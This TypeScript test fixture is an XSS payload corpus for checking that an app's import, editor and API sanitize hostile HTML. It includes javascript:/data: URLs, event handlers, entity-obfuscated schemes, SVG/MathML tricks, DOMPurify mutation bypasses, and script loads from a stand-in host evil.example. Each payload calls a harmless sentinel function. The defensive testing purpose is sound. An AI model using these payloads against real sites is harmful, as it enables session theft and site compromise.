/**
 * XSS corpus (issue #6, Security): hostile HTML fragments and URLs that the
 * import, the editor's saves and the API must keep from ever running.
 *
 * Every payload that could run calls `__xss(<its id>)`, so a browser test can
 * install `window.__xss` and prove none fired. Sources: the OWASP XSS filter
 * evasion cheat sheet, PortSwigger's XSS cheat sheet, and the published
 * DOMPurify / sanitize-html mutation-XSS bypasses.
 */

export type XssCategory = "script" | "event-handler" | "url" | "svg" | "mathml" | "mutation" | "style" | "document" | "obfuscation";

export type XssPayload = {
  id: number;
  category: XssCategory;
  /** What it tries. */
  name: string;
  /** The hostile HTML. */
  html: string;
};

/** Hostile URLs: each must be refused as a link, wherever a link can be made. */
export const XSS_URLS: readonly string[] = [
  "javascript:__xss(1001)",
  "JaVaScRiPt:__xss(1002)",
  "  javascript:__xss(1003)",
  "java\tscript:__xss(1004)",
  "java\nscript:__xss(1005)",
  "java\rscript:__xss(1006)",
  "\u0001javascript:__xss(1007)",
  "\u0000javascript:__xss(1008)",
  "javascript://example.com/%0a__xss(1009)",
  "javascript:/*https://example.com*/__xss(1010)",
  "vbscript:msgbox(1011)",
  "VBScript:msgbox(1012)",
  "data:text/html;base64,PHNjcmlwdD5fX3hzcygxMDEzKTwvc2NyaXB0Pg==",
  "DATA:text/html,<script>__xss(1014)</script>",
  "data:image/svg+xml,<svg onload=__xss(1015)>",
  "livescript:__xss(1016)",
  "//evil.example/x.js",
  "/relative/path",
  "file:///etc/passwd",
  "blob:https://example.com/uuid",
  "ｊａｖａｓｃｒｉｐｔ:__xss(1021)",
  "\u2028javascript:__xss(1022)",
];

let next = 0;
const p = (category: XssCategory, name: string, html: (id: number) => string): XssPayload => {
  next += 1;
  return { id: next, category, name, html: html(next) };
};

/** The payloads, ids 1…n in order. */
export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script elements
  p("script", "plain script", (i) => `<script>__xss(${i})</script>`),
  p("script", "upper-case external script", () => `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`),
  p("script", "split tag to survive one-pass stripping", (i) => `<scr<script>ipt>__xss(${i})</scr</script>ipt>`),
  p("script", "script with data: src", (i) => `<script/xss src="data:text/javascript,__xss(${i})"></script>`),
  p("script", "attribute breakout", (i) => `"><script>__xss(${i})</script>`),
  p("script", "closing every context first", (i) => `</p></title></textarea></style></noscript><script>__xss(${i})</script>`),
  p("script", "double open bracket", (i) => `<<script>__xss(${i});//<</script>`),
  p("script", "script inside a paragraph", (i) => `<p>News <script>document.write('<img src=x onerror=__xss(${i})>')</script> today</p>`),

  // Event handlers on many elements
  p("event-handler", "img onerror", (i) => `<img src=x onerror=__xss(${i})>`),
  p("event-handler", "mixed-case handler", (i) => `<IMG SRC=x OnErRoR="__xss(${i})">`),
  p("event-handler", "svg onload", (i) => `<svg onload=__xss(${i})>`),
  p("event-handler", "body onload", (i) => `<body onload=__xss(${i})>text</body>`),
  p("event-handler", "paragraph onclick/onmouseover", (i) => `<p onclick="__xss(${i})" onmouseover=__xss(${i})>hover me</p>`),
  p("event-handler", "allowed link with a handler", (i) => `<a href="https://ok.example/" onmouseover="__xss(${i})">link</a>`),
  p("event-handler", "strong onmouseover", (i) => `<strong onmouseover=__xss(${i})>bold</strong>`),
  p("event-handler", "full-page pointer trap", (i) => `<div onpointerenter=__xss(${i}) style="position:fixed;inset:0">x</div>`),
  p("event-handler", "autofocus input", (i) => `<input autofocus onfocus=__xss(${i})>`),
  p("event-handler", "details ontoggle", (i) => `<details open ontoggle=__xss(${i})><summary>s</summary></details>`),
  p("event-handler", "video source onerror", (i) => `<video><source onerror=__xss(${i})></video>`),
  p("event-handler", "audio onerror", (i) => `<audio src=x onerror=__xss(${i})>`),
  p("event-handler", "whitespace around =", (i) => `<img src=x onerror\n=\n__xss(${i})>`),
  p("event-handler", "slashes as separators", (i) => `<img/src="x"/onerror=__xss(${i})>`),
  p("event-handler", "heading onanimationstart", (i) => `<h1 onanimationstart=__xss(${i}) style="animation-name:spin">title</h1>`),
  p("event-handler", "list item onfocusin", (i) => `<ul><li onfocusin=__xss(${i}) tabindex=1>item</li></ul>`),
  p("event-handler", "blockquote oncopy", (i) => `<blockquote oncopy=__xss(${i})>quote</blockquote>`),
  p("event-handler", "backtick-quoted handler", (i) => "<img src=x onerror=`__xss(" + i + ")`>"),

  // javascript:, vbscript:, data: URLs and their obfuscations
  p("url", "javascript: link", (i) => `<a href="javascript:__xss(${i})">click</a>`),
  p("url", "mixed-case javascript:", (i) => `<a href="JaVaScRiPt:__xss(${i})">click</a>`),
  p("url", "leading spaces", (i) => `<a href="  javascript:__xss(${i})">click</a>`),
  p("obfuscation", "tab entity inside the scheme", (i) => `<a href="java&#x09;script:__xss(${i})">click</a>`),
  p("obfuscation", "newline entity inside the scheme", (i) => `<a href="jav&#x0A;ascript:__xss(${i})">click</a>`),
  p("obfuscation", "carriage return entity", (i) => `<a href="java&#x0D;script:__xss(${i})">click</a>`),
  p("obfuscation", "decimal entities", (i) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(${i})">click</a>`),
  p("obfuscation", "hex entity and &colon;", (i) => `<a href="&#x6A;avascript&colon;__xss(${i})">click</a>`),
  p("obfuscation", "zero-padded entity without semicolon", (i) => `<a href="&#0000106avascript:__xss(${i})">click</a>`),
  p("obfuscation", "control character before the scheme", (i) => `<a href="\u0001javascript:__xss(${i})">click</a>`),
  p("obfuscation", "literal tab in the scheme", (i) => `<a href="jav\tascript:__xss(${i})">click</a>`),
  p("url", "vbscript:", (i) => `<a href="vbscript:msgbox(${i})">click</a>`),
  p("url", "data:text/html base64", () => `<a href="data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==">click</a>`),
  p("url", "upper-case data: with markup", (i) => `<a href="DATA:text/html,<script>__xss(${i})</script>">click</a>`),
  p("url", "javascript: disguised as a URL", (i) => `<a href="javascript://example.com/%0a__xss(${i})">click</a>`),
  p("url", "bad link between good ones", (i) => `<p><a href="https://ok.example/1">one</a> <a href="javascript:__xss(${i})">two</a> <a href="https://ok.example/3">three</a> after</p><p>next</p>`),
  p("url", "img javascript: src", (i) => `<img src="javascript:__xss(${i})">`),
  p("url", "iframe javascript: src", (i) => `<iframe src="javascript:__xss(${i})"></iframe>`),
  p("url", "iframe srcdoc", (i) => `<iframe srcdoc="&lt;script&gt;__xss(${i})&lt;/script&gt;"></iframe>`),
  p("url", "object data", (i) => `<object data="javascript:__xss(${i})"></object>`),
  p("url", "embed data: svg", () => `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoMSk+">`),
  p("url", "form action", (i) => `<form action="javascript:__xss(${i})"><button>go</button></form>`),
  p("url", "button formaction", (i) => `<button formaction="javascript:__xss(${i})">go</button>`),
  p("url", "isindex action", (i) => `<isindex action=javascript:__xss(${i}) type=image>`),

  // SVG
  p("svg", "svg script", (i) => `<svg><script>__xss(${i})</script></svg>`),
  p("svg", "svg xlink:href", (i) => `<svg><a xlink:href="javascript:__xss(${i})"><text x=20 y=20>click</text></a></svg>`),
  p("svg", "animate onbegin", (i) => `<svg><animate onbegin=__xss(${i}) attributeName=x dur=1s></svg>`),
  p("svg", "animate href to javascript:", (i) => `<svg><a><animate attributeName=href values=javascript:__xss(${i}) /><text x=20 y=20>click</text></a></svg>`),
  p("svg", "set an event handler", (i) => `<svg><set attributeName=onmouseover to=__xss(${i})></svg>`),
  p("svg", "foreignObject img", (i) => `<svg><foreignObject><img src=x onerror=__xss(${i})></foreignObject></svg>`),
  p("svg", "use with data: svg", (i) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss(${i}) /></svg>#x" /></svg>`),

  // MathML
  p("mathml", "maction xlink:href", (i) => `<math><maction actiontype="statusline" xlink:href="javascript:__xss(${i})">click</maction></math>`),
  p("mathml", "math href", (i) => `<math href="javascript:__xss(${i})">click</math>`),

  // Mutation XSS: markup that parses differently the second time
  p("mutation", "noscript title", (i) => `<noscript><p title="</noscript><img src=x onerror=__xss(${i})>">`),
  p("mutation", "svg style", (i) => `<svg><style><img src=x onerror=__xss(${i})></style></svg>`),
  p("mutation", "mglyph style (DOMPurify 2.0.0)", (i) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss(${i})>`),
  p("mutation", "nested forms (DOMPurify 2.2.2)", (i) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(${i})>`),
  p("mutation", "svg p style id", (i) => `<svg></p><style><a id="</style><img src=1 onerror=__xss(${i})>">`),
  p("mutation", "template content", (i) => `<template><img src=x onerror=__xss(${i})></template>`),
  p("mutation", "textarea raw text", (i) => `<textarea><img src=x onerror=__xss(${i})></textarea>`),
  p("mutation", "title raw text", (i) => `<title><img src=x onerror=__xss(${i})></title>`),
  p("mutation", "xmp raw text", (i) => `<xmp><img src=x onerror=__xss(${i})></xmp>`),
  p("mutation", "comment ending inside an attribute", (i) => `<!--<img src="--><img src=x onerror=__xss(${i})//">`),
  p("mutation", "CDATA in HTML", (i) => `<![CDATA[><img src=x onerror=__xss(${i})>]]>`),
  p("mutation", "processing instruction", (i) => `<?xml version="1.0"?><img src=x onerror=__xss(${i})>`),
  p("mutation", "escaped markup in a title attribute", (i) => `<a href="https://ok.example/" title="&quot;&gt;&lt;img src=x onerror=__xss(${i})&gt;">t</a>`),
  p("mutation", "escaped markup as text", (i) => `<p>&lt;img src=x onerror=__xss(${i})&gt; and &lt;script&gt;__xss(${i})&lt;/script&gt;</p>`),
  p("mutation", "noembed raw text", (i) => `<noembed><img title="</noembed><img src=x onerror=__xss(${i})>"></noembed>`),

  // Style
  p("style", "IE expression", (i) => `<p style="width:expression(__xss(${i}))">x</p>`),
  p("style", "url(javascript:)", (i) => `<div style="background:url('javascript:__xss(${i})')">x</div>`),
  p("style", "style element @import", (i) => `<style>@import 'javascript:__xss(${i})';</style>`),
  p("style", "-moz-binding", () => `<p style="-moz-binding:url(//evil.example/xss.xml#x)">x</p>`),
  p("style", "escaped expression", (i) => `<p style="x:\\65 xpression(__xss(${i}))">x</p>`),

  // Document-level elements
  p("document", "meta refresh", (i) => `<meta http-equiv="refresh" content="0;url=javascript:__xss(${i})">`),
  p("document", "base href", (i) => `<base href="javascript:__xss(${i})//"><a href="/x">relative</a>`),
  p("document", "link stylesheet", (i) => `<link rel=stylesheet href="javascript:__xss(${i})">`),
  p("document", "link import with control chars", (i) => `<link rel=import href="\u0001\u0002data:text/html,<script>__xss(${i})</script>">`),
  p("document", "object scriptlet", () => `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`),
  p("document", "framework template injection", (i) => `<p>{{constructor.constructor('__xss(${i})')()}}</p>`),
];

/** A few of the nastiest payloads, for the browser test: each would call __xss if it survived. */
export const NASTIEST_PAYLOAD_IDS: readonly number[] = XSS_PAYLOADS.filter((payload) =>
  [
    "img onerror",
    "svg onload",
    "allowed link with a handler",
    "javascript: link",
    "decimal entities",
    "noscript title",
    "svg style",
    "mglyph style (DOMPurify 2.0.0)",
    "svg p style id",
    "escaped markup in a title attribute",
    "comment ending inside an attribute",
    "bad link between good ones",
  ].includes(payload.name),
).map((payload) => payload.id);

/** Payload by id. */
export function payloadById(id: number): XssPayload {
  const payload = XSS_PAYLOADS.find((candidate) => candidate.id === id);
  if (!payload) throw new Error(`No XSS payload ${id}`);
  return payload;
}
